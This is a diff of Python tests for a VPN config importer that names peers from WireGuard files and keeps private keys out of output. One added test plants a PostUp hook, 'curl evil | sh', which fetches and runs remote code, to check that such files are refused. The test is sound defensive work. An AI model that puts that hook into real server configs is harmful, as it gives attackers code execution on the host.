@@ -179,6 +179,54 @@ def test_gateways_that_nobody_reaches_are_told_of_by_every_verb_and_by_status(sa
     assert sanaga("vpn", "load", "yaounde-e2").code == 1
 
 
+def test_people_who_dial_a_server_today_keep_their_keys(sanaga, open_):
+    privates = [keys.generate() for _ in range(4)]
+    publics = [keys.public_of(private) for private in privates]
+    server = "".join(
+        [
+            f"[Interface]\nPrivateKey = {keys.generate().reveal()}\nListenPort = 51820\n\n",
+            f"# Dr Éliane Ngono\n[Peer]\nPublicKey = {publics[0]}\nAllowedIPs = 10.8.0.2/32\n\n",
+            f"[Peer]\n# Dr Eliane Ngono\nPublicKey = {publics[1]}\nAllowedIPs = 10.8.0.3/32\n",
+            f"[Peer]\nPublicKey = {publics[2]}\nPresharedKey = {keys.preshared().reveal()}\n",
+        ]
+    )
+    (sanaga.folder / "wg0.conf").write_text(server, encoding="utf-8")
+    (sanaga.folder / "wg1.conf").write_text(
+        f"[Interface]\n# ours\n[Peer]\nPublicKey = {publics[3]}\n", encoding="utf-8"
+    )
+    words = ("--role", "doctor", "--site", "mora")
+    answer = sanaga("vpn", "import", "wg0.conf", "wg1.conf", *words)
+    assert answer.code == 0, answer.err
+    assert "4 devices" in answer.err
+    for secret in (line.split(" = ")[1] for line in server.splitlines() if "Private" in line):
+        assert secret not in answer.out + answer.err
+    rows = [line.split(",") for line in answer.out.splitlines()]
+    assert [(row[0], row[-1]) for row in rows[1:]] == list(
+        zip(["dr-eliane-ngono", "dr-eliane-ngono-2", "person-3", "person-4"], publics, strict=True)
+    )
+    (sanaga.folder / "people.csv").write_text(answer.out, encoding="utf-8")
+    done = sanaga("vpn", "person", "apply", "people.csv", "--because", "moved here")
+    assert done.code == 0, done.err
+    shown = json.loads(sanaga("vpn", "person", "list", "-o", "json").out)
+    assert [person["title"] for person in shown] == [
+        "Dr Éliane Ngono",
+        "Dr Eliane Ngono",
+        "person-3",
+        "person-4",
+    ]
+
+
+def test_a_server_s_file_that_would_run_commands_is_refused_at_its_line(sanaga, open_):
+    (sanaga.folder / "wg0.conf").write_text(
+        "[Interface]\nPostUp = curl evil | sh\n[Peer]\nPublicKey = x\n", encoding="utf-8"
+    )
+    answer = sanaga("vpn", "import", "wg0.conf", "--role", "doctor", "--site", "mora")
+    assert answer.code == 1
+    assert "wg0.conf:2" in answer.err
+    assert "wg0.conf:4" in answer.err
+    assert answer.out == ""
+
+
 def test_export_of_an_unknown_gateway_names_the_nearest(sanaga, open_):
     answer = sanaga("vpn", "site", "export", "yaounde-e2", "--because", "x", "--file", "f")
     assert answer.code == 1
